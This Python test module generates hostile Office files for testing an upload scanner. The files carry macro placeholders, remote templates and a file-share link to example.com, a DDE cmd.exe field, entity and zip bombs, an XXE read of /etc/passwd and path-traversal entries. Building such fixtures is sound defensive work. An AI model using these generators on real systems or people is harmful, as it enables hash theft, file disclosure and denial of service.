"""Word and Excel files that run something or hurt whoever opens them."""

import io
import re
import struct
import zipfile
from random import Random

from tests.unit.papers.file_parts import (
    BODY,
    DOCM_TYPE,
    MEGABYTE,
    PROGRAM,
    excel,
    hostile,
    link,
    word,
    word_parts,
    zipped,
)

ENTITY_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
    + BODY.replace("Báo cáo", "&a11;")
)


# The same bytes in every run.
randbytes = Random(2026).randbytes


@hostile("macro.docx", "active", "macros under the ending that promises none")
def word_with_macros():
    return word(("word/vbaProject.bin", b"\0" * 100))


@hostile("đổi tên.docx", "active", "a .docm renamed, its macros under another name")
def renamed_docm():
    return word(("word/khac.bin", b"\0" * 100), main_type=DOCM_TYPE)


@hostile("macro.xlsx", "active", "macros in Excel")
def excel_with_macros():
    return excel(("xl/vbaProject.bin", b"\0" * 100))


@hostile("macro cũ.xlsx", "active", "macros of Excel 4, older than VBA")
def excel_4_macros():
    return excel(("xl/macrosheets/sheet1.xml", "<a/>"))


@hostile("nút.docx", "active", "ActiveX controls run native code")
def active_x():
    return word(("word/activeX/activeX1.bin", b"\0" * 100))


@hostile("đính kèm.docx", "active", "an OLE package can be any program")
def ole_package():
    return word(("word/embeddings/oleObject1.bin", b"\0" * 100))


@hostile("chứa exe.docx", "active", "a program inside")
def word_with_program():
    return word(("word/embeddings/cai.exe", PROGRAM))


@hostile("mẫu từ xa.docx", "active", "Word fetches the template, with its macros, from another machine")
def remote_template():
    return word(links=link("attachedTemplate", "https://example.com/x.dotm"))


@hostile("mẫu từ xa mã hoá.docx", "active", "the same, its address written in character references")
def disguised_remote_template():
    return word(links=link("attachedTemplate", "&#104;ttp://example.com/x.dotm"))


@hostile("mẫu mạng.docx", "active", "sends the reader's Windows password hash to another machine")
def template_on_a_share():
    return word(links=link("frame", "file:////example.com/share/x"))


@hostile("dde.docx", "active", "a field that starts a program")
def dde_field():
    return word(
        body=BODY.replace("<w:t>", '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe</w:instrText><w:t>')
    )


@hostile("dde.xlsx", "active", "a link to another program that starts it")
def dde_link():
    return excel(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>"))


# Archives that hurt whoever opens them


@hostile("thực thể.docx", "entities", "a billion ha: entities that unfold to gigabytes")
def entity_bomb():
    return word(body=ENTITY_BOMB)


@hostile("thực thể utf16.docx", "entities", "the same in UTF-16")
def entity_bomb_in_utf16():
    return word(body=ENTITY_BOMB.encode("utf-16"))


@hostile(
    "thực thể sau.docx", "entities", "the same behind a megabyte of remarks, across the edge of what is read at once"
)
def late_entity_bomb():
    return word(body=b"<!--" + b"x" * (256 * 1024 - 10) + b"-->" + ENTITY_BOMB[21:].encode())


@hostile("tệp máy chủ.docx", "entities", "an entity that reads a file of the machine")
def external_entity():
    return word(("word/settings.xml", '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]><a>&f;</a>'))


@hostile("thực thể types.docx", "entities", "the same in the list of parts, which every program reads first")
def entity_in_content_types():
    return zipped([("[Content_Types].xml", ENTITY_BOMB), *word_parts()[1:]])


@hostile("bom.docx", "bomb", "half a gigabyte of zeros in half a megabyte")
def zip_bomb():
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in word_parts():
            archive.writestr(name, content)
        with archive.open("word/media/a.xml", "w", force_zip64=True) as part:
            for _step in range(64):
                part.write(b"\0" * 8 * MEGABYTE)
    return packed.getvalue()


@hostile("bom vừa.xlsx", "bomb", "90 MB of one letter in 90 KB, below the limit of the whole")
def tight_bomb():
    return excel(("xl/worksheets/sheet2.xml", b" " * 90 * MEGABYTE))


@hostile("bom nhiều.docx", "bomb", "a hundred parts of a megabyte and more, each packed no tighter than others are")
def many_large_parts():
    part = randbytes(30_000) + b" " * MEGABYTE
    return word(*((f"word/media/{n}.xml", part) for n in range(100)))


@hostile("danh mục lớn.docx", "bomb", "a list of parts that is larger than any Word file's")
def large_list():
    remark = f"<!--{randbytes(600_000).hex()}-->"
    return zipped([("[Content_Types].xml", remark), *word_parts()[1:]])


@hostile("bom chồng.docx", "bomb", "entries over each other pack the same bytes a hundred times")
def overlapping_entries():
    whole = bytearray(word(("word/media/a.xml", "a" * 5000), ("word/media/b.xml", "b" * 5000)))
    directory = whole.rfind(b"PK\x01\x02")
    first = whole.rfind(b"PK\x01\x02", 0, directory)
    whole[directory + 42 : directory + 46] = whole[first + 42 : first + 46]
    return bytes(whole)


@hostile("nhiều phần.docx", "bomb", "50,000 entries, an object in memory for each")
def many_entries():
    return word(*((f"word/{n}.xml", "") for n in range(50_000)))


@hostile("nói dối.docx", "damaged", "declares a hundred bytes and unpacks to fifty megabytes")
def lying_size():
    packed = bytearray(word(("word/media/a.xml", b"a" * 50 * MEGABYTE)))
    size = struct.pack("<L", 50 * MEGABYTE)
    return bytes(packed).replace(size, struct.pack("<L", 100))


@hostile("trèo.docx", "hidden", "a part that climbs out of the folder it is unpacked to")
def climbing_part():
    return word(("word/../../../etc/cron.d/a", "x"))


@hostile("trèo.xlsx", "hidden", "the same in Excel")
def climbing_excel_part():
    return excel(("../a.xml", "x"))


@hostile("gốc.docx", "hidden", "a part with an absolute name")
def absolute_part():
    return word(("/etc/passwd", "x"))


@hostile("ổ đĩa.docx", "hidden", "a part with a drive of Windows")
def part_on_a_drive():
    return word(("C:/Windows/a.xml", "x"))


@hostile("gạch ngược.docx", "hidden", "a part that climbs the way Windows writes it")
def backslash_part():
    return word((zipfile.ZipInfo("word\\..\\..\\a.xml"), "x"))


@hostile("hai lần.docx", "hidden", "the same part twice: we see one, Word the other")
def part_twice():
    return word(("WORD/document.xml", BODY))


@hostile("mật khẩu.docx", "encrypted", "an archive with a password cannot be looked through")
def encrypted_archive():
    whole = bytearray(word())
    for found in re.finditer(rb"PK\x01\x02", bytes(whole)):
        whole[found.start() + 8] |= 1
    return bytes(whole)


@hostile("cách nén lạ.docx", "damaged", "packed in a way that Word does not know")
def odd_compression():
    return zipped(word_parts(), zipfile.ZIP_LZMA)


@hostile("ngắn.docx", "damaged", "the first ten bytes of an archive")
def stub_of_word():
    return word()[:10]


@hostile("đứt.docx", "damaged", "half of a file")
def cut_word():
    return word()[:-400]


@hostile("sai tổng.docx", "damaged", "a part whose checksum is wrong")
def wrong_checksum():
    whole = zipped(word_parts(), zipfile.ZIP_STORED)
    return whole.replace("Báo cáo".encode(), "Bào cáo".encode(), 1)


@hostile("nối đuôi.docx", "hidden", "a page behind the archive")
def word_with_tail():
    return word() + b"<script>alert(1)</script>"


@hostile("lời bình.docx", "hidden", "a page in the remark of the archive")
def word_with_comment():
    packed = io.BytesIO(word())
    with zipfile.ZipFile(packed, "a") as archive:
        archive.comment = b"<script>alert(1)</script>"
    return packed.getvalue()


@hostile("hai kho.docx", "hidden", "a second archive in front: programs differ in which they open")
def two_archives():
    return word() + word()
